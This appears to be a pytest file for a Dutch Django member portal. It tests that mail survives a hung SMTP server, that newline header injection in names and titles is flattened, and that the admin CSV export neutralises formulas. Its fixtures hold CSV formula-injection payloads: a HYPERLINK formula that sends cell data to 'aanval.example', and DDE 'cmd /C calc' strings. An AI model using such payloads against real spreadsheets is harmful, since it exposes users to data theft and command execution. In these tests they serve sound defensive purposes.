"""Member mail that a hostile title or a hung mail server cannot break, and the admin's
submissions CSV that a spreadsheet cannot run.

- A hung SMTP server (accepts the connection, never answers) costs a request at most
  EMAIL_TIMEOUT per message: the submission is saved, the mail stays pending for
  ``send_pending_mail``.
- A newline in a title or a name would make Django refuse the subject (BadHeaderError) on
  every send and resend: subjects are one line.
- The moderation queue's CSV export neutralises formula cells as the public CSV does.
"""

import csv
import io
import os
import socket
import subprocess
import sys
import threading
import time

from django.core import mail
from django.core.cache import cache
from django.core.management import call_command
from django.test import Client, override_settings
from django.urls import reverse

import pytest

from tests.conftest import REPO_ROOT
from tests.factories import make_organisatie
from tests.roles import PASSWORD, login, make_user
from tests.voorbeelden.inzendingen_support import form_data, setup_portal
from voorbeelden.models import Bericht, Inzending

pytestmark = pytest.mark.django_db

QUEUE = "/admin/voorbeelden/inzending/"
HOSTILE = {
    "title": '=HYPERLINK("https://aanval.example/?d="&A1,"Klik hier")',
    "doel": "+cmd|' /C calc'!A0",
    "place": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture(autouse=True)
def _fresh_throttles():
    cache.clear()


def submit(client, **overrides):
    response = client.post("/inzenden/", form_data(**overrides))
    assert response.status_code == 302
    return Inzending.objects.latest("pk")


# --- EMAIL_TIMEOUT ---------------------------------------------------------------------

def base_setting(name, **env):
    """A setting as portaal/settings/base.py reads it from this environment."""
    environment = {k: v for k, v in os.environ.items() if k != name}
    environment.update(env)
    code = f"import portaal.settings.base as s; print(s.{name})"
    result = subprocess.run([sys.executable, "-c", code], cwd=REPO_ROOT, env=environment,
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    return result.stdout.strip()


def test_email_timeout_is_set_and_can_be_changed_from_the_environment():
    assert 0 < float(base_setting("EMAIL_TIMEOUT")) <= 30
    assert base_setting("EMAIL_TIMEOUT", EMAIL_TIMEOUT="3") == "3"


@pytest.fixture
def silent_smtp_server():
    """A TCP server that accepts connections and never says a word (a hung mail server).

    It holds what it accepted until the test ends, and stops by itself after a minute.
    """
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    held, stop = [], threading.Event()

    def serve():
        deadline = time.monotonic() + 60
        while not stop.is_set() and time.monotonic() < deadline:
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            held.append(connection)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], held
    stop.set()
    thread.join()
    for connection in held:
        connection.close()
    server.close()


def test_hung_mail_server_keeps_the_submission_and_the_mail_for_later(silent_smtp_server):
    port, held = silent_smtp_server
    setup_portal()
    make_user("editor")  # the editors get mail about a new submission too
    client = login(Client(), make_user("member"))
    smtp = {"EMAIL_BACKEND": "django.core.mail.backends.smtp.EmailBackend",
            "EMAIL_HOST": "127.0.0.1", "EMAIL_PORT": port, "EMAIL_TIMEOUT": 1,
            "EMAIL_USE_TLS": False, "EMAIL_USE_SSL": False}
    with override_settings(**smtp):
        started = time.monotonic()
        inzending = submit(client)
        elapsed = time.monotonic() - started
    assert held, "the mail server never got a connection"
    assert elapsed < 10  # two messages, one second each at most, plus the request itself
    assert inzending.status == Inzending.Status.INGEDIEND
    berichten = list(inzending.berichten.all())
    assert len(berichten) == 2
    for bericht in berichten:
        assert bericht.sent_at is None
        assert "timed out" in bericht.last_error
    # The member sees the submission, not an error.
    overview = client.get(reverse("mijn_inzendingen")).content.decode()
    assert "Buurtmaatjes in Nijmegen-Oost" in overview

    # Still hung: send_pending_mail tries, returns, keeps them.
    with override_settings(**smtp):
        call_command("send_pending_mail", stdout=io.StringIO())
    assert Bericht.objects.filter(sent_at=None).count() == 2
    # The mail server is back (the test backend): the retry sends both.
    call_command("send_pending_mail", stdout=io.StringIO())
    assert not Bericht.objects.filter(sent_at=None).exists()
    assert inzending.user.email in [m.to[0] for m in mail.outbox]


# --- subjects from user text -----------------------------------------------------------

def test_title_with_newline_mail_sent_and_resent():
    setup_portal()
    client = login(Client(), make_user("member"))
    inzending = submit(client, title="Eerste regel\nTweede")
    [ontvangen] = [m for m in mail.outbox if m.to == [inzending.user.email]]
    assert ontvangen.subject == "Ontvangen: Eerste regel Tweede"
    assert not inzending.berichten.filter(sent_at=None).exists()

    # A title stored with its newline (an import, or data from before the form flattened
    # it), and a message stored with it in the subject before subjects were one line.
    Inzending.objects.filter(pk=inzending.pk).update(title="Eerste regel\nTweede")
    bericht = inzending.berichten.get(to=inzending.user.email)
    Bericht.objects.filter(pk=bericht.pk).update(subject="Ontvangen: Eerste regel\nTweede",
                                                 sent_at=None)
    mail.outbox.clear()
    editor = login(Client(), make_user("editor"))
    response = editor.post(reverse("voorbeelden_inzending_mail", args=[inzending.pk]))
    assert response.status_code == 302
    bericht.refresh_from_db()
    assert bericht.sent_at is not None and bericht.last_error == ""
    assert [m.subject for m in mail.outbox] == ["Ontvangen: Eerste regel Tweede"]

    # A status change mails the member, with the title on one line.
    editor.post(reverse("voorbeelden_inzending_status", args=[inzending.pk]),
                {"status": "aanvullen_gevraagd", "message": "Graag de resultaten aanvullen."})
    assert mail.outbox[-1].subject == \
        "Uw inzending ‘Eerste regel Tweede’: aanvullen gevraagd"
    assert not inzending.berichten.filter(sent_at=None).exists()


def test_name_with_newline_account_mail_reaches_the_approvers():
    admin = make_user("admin")
    Client().post(reverse("account_register"), {
        "first_name": "Fatima\nBcc: iedereen@example.org", "last_name": "El Amrani",
        "email": "fatima@stimenz.nl", "organisatie": "", "nieuwe_organisatie": "Buurtwerk Oost",
        "password1": PASSWORD, "password2": PASSWORD,
    })
    link = [line for line in mail.outbox[-1].body.split() if "/account/bevestigen/" in line][0]
    Client().get(link)
    [to_approvers] = [m for m in mail.outbox if admin.email in m.to]
    assert to_approvers.subject == \
        "Nieuw lid wacht op goedkeuring: Fatima Bcc: iedereen@example.org El Amrani"
    assert to_approvers.to == [admin.email]


# --- the admin's CSV export ------------------------------------------------------------

def test_queue_csv_export_neutralises_formulas():
    setup_portal()
    client = login(Client(), make_user("member", organisatie=make_organisatie("Stimenz")))
    inzending = submit(client, **HOSTILE)
    # Tab- and CR-prefixed text as an import (import_swn --as-submissions) may bring it;
    # the member form strips leading whitespace.
    Inzending.objects.filter(pk=inzending.pk).update(aanpak="\t=1+1", resultaten="\r=2+2")

    response = login(Client(), make_user("editor")).get(QUEUE + "?export=csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(content)))
    [row] = rows
    cells = list(row.values())
    for value in [*HOSTILE.values(), "\t=1+1", "\r=2+2"]:
        assert "'" + value in cells, value
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Empty stays empty, plain text is left alone.
    assert "'-" not in cells and "" in cells
    assert "Bewoners met psychische kwetsbaarheid" in cells
